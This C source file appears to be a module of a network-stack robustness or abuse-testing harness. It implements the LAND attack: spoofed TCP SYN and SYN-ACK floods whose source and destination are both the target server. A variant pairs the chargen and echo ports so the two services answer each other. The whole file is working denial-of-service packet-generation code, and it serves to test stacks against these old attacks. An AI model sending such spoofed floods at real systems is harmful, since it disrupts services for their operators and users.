/* SPDX-License-Identifier: BSD-3-Clause */

/* LAND (CVE-1997-0016, CVE-1999-0016): source and destination address are both the server's. Variant 0: source and
 * destination port are equal. Variant 1 (CVE-1999-0103): the ports are those of chargen and echo, two services that
 * would answer each other. */

#include "abuse.h"

#include <string.h>

static void
step(struct abuse *w)
{
	const struct row *r = abuse_params(w);

	for (uint32_t k = abuse_due(w, r->rate); k > 0; k--) {
		struct la_addr us = abuse_addr(SERVER, r->ip6);
		struct frame f = {.src = us,
				  .dst = us,
				  .sport = r->variant ? CHARGEN : ECHO_PORT,
				  .dport = ECHO_PORT,
				  .flags = k % 2 ? SYN : SYN | ACK,
				  .seq = abuse_random(w),
				  .ack = abuse_random(w),
				  .win = 65535};

		spoof_tcp(w, &f);
	}
}

static const struct row rows[] = {
	{.rate = 1000},
	{.rate = 1000, .ip6 = true},
	{.rate = 5000, .variant = 1},
};

const struct attack attack_land = {
	.name = "land",
	.kind = "LAND, CVE-1997-0016; echo against chargen, CVE-1999-0103",
	ROWS(rows),
	.step = step,
};
